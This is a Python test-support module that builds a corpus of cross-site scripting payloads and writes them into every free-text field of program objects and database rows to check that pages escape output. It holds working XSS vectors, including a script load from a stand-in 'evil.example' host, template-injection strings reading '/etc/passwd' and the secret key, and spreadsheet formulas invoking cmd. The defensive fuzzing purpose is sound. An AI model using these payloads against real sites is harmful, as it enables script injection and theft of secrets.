"""Texts that would run, or break out of where they stand, if a page did not escape them.

Each is put into every text of a program and of what is kept beside it, found by walking the types,
so that a field which is added later is filled too.
"""

from __future__ import annotations

import dataclasses
from collections.abc import Callable, Iterator, Mapping
from enum import Enum
from html import escape
from itertools import count
from typing import Any, get_type_hints
from urllib.parse import quote

from django.apps import apps
from django.db import models

from fairlead.core.ground.table import Table
from fairlead.core.program.program import Program

CANARY = "alert('xss-canary')"
OUT_OF = (
    "",
    '">',
    "'>",
    "`>",
    "-->",
    "]]>",
    "</title>",
    "</script>",
    "</style>",
    "</template>",
    "</textarea></select>",
)
"""What ends each place that a text may stand in: nothing, attributes, comments, raw texts."""
ELEMENTS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<style>@import 'javascript:{}';</style>",
    '<a href="javascript:{}">link</a>',
    "<form><button formaction=javascript:{}>x</button></form>",
    "<object data=javascript:{}></object>",
    "<base href=//evil.example/><script src={}></script>",
    "<meta http-equiv=refresh content=0;url=javascript:{}>",
    "<xss hx-get='/' hx-trigger='load' hx-on:click=\"{}\">",
)
"""What runs where markup is not escaped."""
HANDLERS = ("onfocus", "onmouseover", "onclick", "onerror", "onload", "ontoggle")
ADDRESSES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "\x01javascript:{}",
    "JaVaScRiPt&colon;{}",
    "javascript&#58;{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:image/svg+xml,<svg onload={}>",
)
"""What runs where a text becomes the address of a link."""
TEMPLATES = (
    "{{7*7}}{% now 'Y' %}${7*7}#{7*7}<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "{% include '/etc/passwd' %}{{ settings.SECRET_KEY }}",
    "${alert`1`}[[7*7]]{0.__class__}%(x)s",
)
"""What would be computed where a text becomes part of a template."""
FORMULAS = ("=HYPERLINK({})", "+cmd|' /C {}'!A0", "-2+cmd|' /C {}'!A0", "@SUM({})", "\t={}")


def _entities(text: str) -> str:
    return "".join(f"&#x{ord(one):x};" if one in "<>\"'" else one for one in text)


def _decimal(text: str) -> str:
    return "".join(f"&#{ord(one):07d}" if one in "<>\"'" else one for one in text)


def _unicode(text: str) -> str:
    return "".join(f"\\u{ord(one):04x}" if one in "<>\"'" else one for one in text)


def _hexadecimal(text: str) -> str:
    return "".join(f"\\x{ord(one):02x}" if one in "<>\"'" else one for one in text)


def _wide(text: str) -> str:
    return text.translate({ord(one): ord(one) + 0xFEE0 for one in "<>\"'"})


def _turned(text: str) -> str:
    return f"\u202e{text}\u2066"


def _mixed(text: str) -> str:
    return "".join(one.upper() if n % 2 else one for n, one in enumerate(text))


ENCODINGS: tuple[Callable[[str], str], ...] = (
    escape,
    quote,
    lambda text: quote(quote(text)),
    _entities,
    _decimal,
    _unicode,
    _hexadecimal,
    _wide,
    _turned,
    _mixed,
)
"""How a text may be written that somebody decodes once too often, or that is compared by letter."""


def _made() -> Iterator[str]:
    """All payloads: each way out of a place with each element, and all other kinds."""
    yield from (out + one.format(CANARY) for one in ELEMENTS for out in OUT_OF)
    for sign in "\"'`":
        yield from (f"{sign} {one}={sign}{CANARY}{sign} autofocus x={sign}" for one in HANDLERS)
    yield from (one.format(CANARY) for one in (*ADDRESSES, *FORMULAS))
    yield from TEMPLATES
    yield from (to(one.format(CANARY)) for one in ELEMENTS[:3] for to in ENCODINGS)


PAYLOADS = tuple(_made())

SHORTEST = 60
"""Shorter fields hold no payload."""
Filling = Callable[[], str]
KEPT = frozenset({"zone", "currency", "country", "subdivision", "days", "table", "rate_table"})
"""Texts of a program that are no free texts: a payload there would be refused, and rightly."""
FREE_CODES = frozenset(
    {
        *("digest", "code", "stored", "sha256", "key", "password", "email", "prefix", "format"),
        *("dates", "model", "question", "team"),
    }
)
"""Texts of the tables that nobody writes freely, or that are looked up by."""


def filling(offset: int = 0, together: int = 1) -> Filling:
    """Gives one payload after the other, or some of them together."""
    numbers = count(offset)
    return lambda: " ".join(PAYLOADS[next(numbers) % len(PAYLOADS)] for _ in range(together))


def filled(program: Program, next_one: Filling) -> Program:
    """A program with payloads in the place of every free text."""
    return _filled(program, str, next_one)  # type: ignore[no-any-return]


def _filled(value: Any, hint: Any, next_one: Filling) -> Any:
    if dataclasses.is_dataclass(value) and not isinstance(value, Enum | type):
        hints = get_type_hints(type(value))
        changed = {
            one.name: _filled(getattr(value, one.name), hints[one.name], next_one)
            for one in dataclasses.fields(value)
            if one.init and one.name not in KEPT | {"set_aside"}
        }
        return dataclasses.replace(value, **changed)
    if isinstance(value, Table):
        return Table({id: _filled(one, None, next_one) for id, one in value.items()})
    if isinstance(value, tuple):
        return tuple(_filled(one, None, next_one) for one in value)
    if isinstance(value, str) and hint in {str, str | None} and not isinstance(value, Enum):
        return next_one()
    return value


def fill_tables(next_one: Filling) -> Mapping[str, int]:
    """Put payloads into every free text of all rows of the store; how many rows each got."""
    done: dict[str, int] = {}
    for model, field in free_texts():
        longest = field.max_length or 10_000
        for row in model._base_manager.all():
            payload = next_one()
            while len(payload) > longest:
                payload = next_one()
            model._base_manager.filter(pk=row.pk).update(**{field.name: payload})
            label = f"{model._meta.model_name}.{field.name}"
            done[label] = done.get(label, 0) + 1
    return done


def free_texts() -> Iterator[tuple[type[models.Model], models.Field[Any, Any]]]:
    """The free texts of our own models."""
    for model in apps.get_app_config("store").get_models():
        for field in model._meta.local_concrete_fields:
            is_text = isinstance(field, models.CharField | models.TextField)
            is_ours = model._meta.model_name not in {"cacheentry", "programrecord"}
            is_ours = is_ours and (model._meta.model_name, field.name) != ("branch", "name")
            is_short = (field.max_length or SHORTEST) < SHORTEST
            if is_text and is_ours and not (field.choices or is_short or field.name in FREE_CODES):
                yield model, field
